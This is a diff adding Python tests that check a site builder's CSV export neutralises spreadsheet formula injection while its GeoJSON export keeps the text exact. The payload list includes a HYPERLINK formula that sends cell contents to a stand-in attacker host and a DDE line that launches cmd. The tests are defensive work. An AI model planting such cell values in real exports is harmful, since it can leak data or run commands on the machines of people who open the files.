@@ -82,3 +82,38 @@ def test_data_file_cannot_close_its_script(hostile_site):
     data = (out / "data.js").read_text(encoding="utf-8")
     assert "</script" not in data.lower()
     assert "Agency {{ 7*7 }}" in data  # the text is kept exact, as data
+
+
+FORMULA_PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
+                    "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def test_site_csv_neutralises_formulas_and_geojson_keeps_them(tmp_path):
+    import csv
+    import io
+    import json
+
+    rows = [make_row("Testovka", article=f"f{i}", date=f"2024-03-{10 + i:02d}", title=text, source=text,
+                     quote=text, surface=text, claimant_label=text) for i, text in enumerate(FORMULA_PAYLOADS)]
+    rows.append(make_row("Mockivka", article="neg", date="2024-03-20", lon=-35.9))
+    out = tmp_path / "site"
+    build_site(rows, out)
+    got = list(csv.DictReader(io.StringIO((out / "claims.csv").read_bytes().decode("utf-8"), newline="")))
+    cells = [v for r in got for k, v in r.items() if k not in ("lat", "lon", "geonameid", "confidence")]
+    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    by_title = {r["title"]: r for r in got}
+    for text in FORMULA_PAYLOADS:
+        row = by_title["'" + text]
+        assert row["source"] == row["quote"] == row["surface"] == row["claimant_label"] == "'" + text
+    assert by_title["Report neg"]["lon"] == "-35.9"  # a number, not text: kept as it is
+    features = json.loads((out / "claims.geojson").read_text(encoding="utf-8"))["features"]
+    assert {f["properties"]["quote"] for f in features} >= set(FORMULA_PAYLOADS)
+
+
+def test_site_and_store_neutralise_the_same_cells():
+    from geo.site import pages
+    from geo.store import csvsafe
+
+    assert pages._FORMULA_STARTS == csvsafe.FORMULA_STARTS
+    for value in [*FORMULA_PAYLOADS, "plain", "", 1.5, -2, None]:
+        assert pages._csv_cell(value) == csvsafe.safe_cell(value)
